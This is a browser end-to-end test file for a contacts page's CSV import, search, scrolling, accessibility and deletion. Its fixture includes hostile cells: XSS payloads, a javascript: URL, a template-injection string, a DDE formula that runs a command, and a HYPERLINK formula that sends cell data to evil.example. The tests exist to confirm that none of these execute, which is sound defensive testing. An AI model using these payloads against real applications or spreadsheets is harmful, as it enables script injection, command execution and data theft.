// The contacts in a browser: a file with hostile cells is looked at, brought and found again as text, and five thousand scroll.
import type { Page } from 'playwright-core';
import { openCustomer } from '#local/customer.ts';
import { openPage, sidewaysOn, takePicture, type View, violationsOn } from '../support/browser.ts';
import { openPageWorld } from './support/page-world.ts';
import { PATIENCE } from './support/phone.ts';

const { browser, setClock, url } = openPageWorld();
const HOSTILE = '<img src=x onerror=alert(1)>';
const FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"open")';

const FILE = [
  'Nome,Cognome,Telefono,Annotazioni',
  `"${HOSTILE}",,+39 333 1110001,"=cmd|' /C calc'!A0"`,
  `"${FORMULA.replaceAll('"', '""')}",,3331110002,"<script>alert(1)</script>"`,
  '"{{constructor.constructor(""alert(1)"")()}}",javascript:alert(1),3331110003,',
  'Ada,Fittizia,non lo so,',
  ...Array.from(
    { length: 300 },
    (_, n) => `Cliente,${String(n).padStart(3, '0')},333 22${String(n).padStart(5, '0')},`,
  ),
].join('\r\n');

beforeAll(async () => {
  await setClock('2026-11-24T10:00');
  const giulia = await openCustomer({ url: url(), name: 'Giulia Bianchi', phone: '393331112233' });
  await giulia.write('Buongiorno!');
});

const openContacts = async (view: View, path = '/contacts') => {
  const opened = await openPage(browser(), `${url()}${path}`, view);
  await opened.page.getByRole('heading', { level: 1 }).waitFor(PATIENCE);
  return opened;
};
const row = (page: Page, name: string) => page.getByRole('listitem').filter({ hasText: name });
const choose = (page: Page, text: string) =>
  page
    .locator('input[type=file]')
    .setInputFiles({ name: 'rubrica.csv', mimeType: 'text/csv', buffer: Buffer.from(text) });

it('shows who wrote, and brings a file of hostile cells of which nothing runs', async () => {
  const { page, trouble } = await openContacts({ width: 1280 });
  await row(page, 'Giulia Bianchi').waitFor(PATIENCE);
  await page.getByRole('button', { name: 'Import' }).click();
  await choose(page, FILE);
  const dialog = page.getByRole('dialog');
  await dialog.getByText('This is how they are kept').waitFor(PATIENCE);
  expect(await dialog.getByLabel('Column “Telefono” is').inputValue()).toBe('phone');
  await dialog.getByText(HOSTILE).first().waitFor(PATIENCE);
  expect(await violationsOn(page)).toEqual([]);
  await takePicture(page, 'contacts-import-1280');
  await dialog.getByText('1 line needs a look').click();
  await dialog.getByText('this is no telephone number; left out').waitFor();
  await dialog.getByLabel('Column “Annotazioni” is').selectOption('none');
  await dialog.getByText('<script>alert(1)</script>').first().waitFor();
  await dialog.getByRole('button', { name: 'Save 303 contacts' }).click();
  await dialog.getByText('303 new, 0 brought up to date, 0 as they were.').waitFor({ timeout: 120_000 });
  await dialog.getByRole('button', { name: 'Back to the contacts' }).click();
  await page.getByText('304 contacts').waitFor(PATIENCE);
  expect(await page.locator('img, script[src*=evil], a[href^=javascript]').count()).toBe(0);
  expect(trouble).toEqual([]);
});

it('finds by name and by number, also from an address, and says when nobody is found', async () => {
  const { page } = await openContacts({ width: 1280 });
  const field = page.getByRole('searchbox', { name: 'Search by name or number' });
  await field.fill('333 1110002');
  await page.getByText('1 contact', { exact: true }).waitFor(PATIENCE);
  await row(page, FORMULA).waitFor(PATIENCE);
  expect(new URL(page.url()).searchParams.get('search')).toContain('333 1110002');
  await field.fill('nobody of this name');
  await page.getByText('Nobody is found.').waitFor(PATIENCE);
  await page.getByRole('button', { name: 'Show all contacts' }).click();
  await page.getByText('304 contacts').waitFor(PATIENCE);
  const later = await openContacts({ width: 1280 }, '/contacts?search=cliente+299');
  await row(later.page, 'Cliente 299').waitFor(PATIENCE);
});

it('draws only the rows on the screen, and the last one is reached', async () => {
  const { page } = await openContacts({ width: 1280 });
  await row(page, 'Cliente 000').waitFor(PATIENCE);
  expect(await page.getByRole('listitem').count()).toBeLessThan(60);
  await page.locator('main div[tabindex="0"]').focus();
  await page.keyboard.press('End');
  await row(page, 'Giulia Bianchi').waitFor(PATIENCE);
  expect(await page.getByRole('listitem').count()).toBeLessThan(60);
});

it('keeps what a member calls a contact, and leads to the chat', async () => {
  const { page, trouble } = await openContacts({ width: 1280 }, '/contacts?search=giulia');
  await row(page, 'Giulia Bianchi').getByRole('button').click();
  const dialog = page.getByRole('dialog', { name: 'Giulia Bianchi' });
  await dialog.getByRole('textbox', { name: 'What you call them' }).fill('Giulia, del terzo piano');
  await dialog.getByRole('checkbox', { name: 'Saved in your contacts' }).check();
  await dialog.getByRole('button', { name: 'Save', exact: true }).click();
  await row(page, 'Giulia, del terzo piano').filter({ hasText: 'Saved' }).waitFor(PATIENCE);
  await row(page, 'Giulia, del terzo piano').getByRole('button').click();
  await page.getByRole('link', { name: 'Open the chat' }).click();
  await page.getByText('Buongiorno!').first().waitFor(PATIENCE);
  await page
    .getByRole('button', { name: /Giulia, del terzo piano/ })
    .first()
    .waitFor(PATIENCE);
  expect(trouble).toEqual([]);
});

const views = [390, 1280].flatMap((width) => (['light', 'dark'] as const).map((scheme) => ({ width, scheme })));

it.each(views)('breaks no rule at $width px in $scheme, in the list, a contact and an import', async (view) => {
  const { page, trouble } = await openContacts(view);
  await row(page, 'Cliente 000').waitFor(PATIENCE);
  const name = `contacts-${view.width}-${view.scheme}`;
  await takePicture(page, name);
  expect(await violationsOn(page)).toEqual([]);
  await row(page, HOSTILE).getByRole('button').click();
  await page.getByRole('textbox', { name: 'Note' }).waitFor(PATIENCE);
  await takePicture(page, `${name}-one`);
  expect(await violationsOn(page)).toEqual([]);
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: 'Import' }).click();
  await choose(page, FILE);
  await page.getByText('This is how they are kept').waitFor(PATIENCE);
  await takePicture(page, `${name}-import`);
  expect(await violationsOn(page)).toEqual([]);
  expect(await sidewaysOn(page)).toBe(0);
  expect(trouble).toEqual([]);
});

it('needs no sideways scroll at 320 px, in Italian too', async () => {
  const { page } = await openContacts({ width: 320, height: 640, language: 'it-IT' });
  await row(page, 'Cliente 000').waitFor(PATIENCE);
  expect(await sidewaysOn(page)).toBe(0);
  await page.getByRole('button', { name: 'Importa' }).click();
  await choose(page, FILE);
  await page.getByText('Così vengono salvati').waitFor(PATIENCE);
  expect(await sidewaysOn(page)).toBe(0);
  await takePicture(page, 'contacts-320');
});

it('deletes everything of a customer if an owner says so twice, and no file brings them back', async () => {
  const { page } = await openContacts({ width: 1280 }, '/contacts?search=cliente+042');
  await row(page, 'Cliente 042').getByRole('button').click();
  await page.getByRole('button', { name: 'Delete everything of this customer…' }).click();
  await page.getByRole('button', { name: 'Delete for good' }).click();
  await page.getByText('Nobody is found.').waitFor(PATIENCE);
  await page.getByRole('button', { name: 'Import' }).click();
  await choose(page, 'name,phone\nCliente 042,+39 333 2200042\n');
  await page.getByRole('button', { name: 'Save 1 contact' }).click();
  await page.getByText('1 line needs a look').click();
  await page.getByText('the file does not bring them back').waitFor(PATIENCE);
});
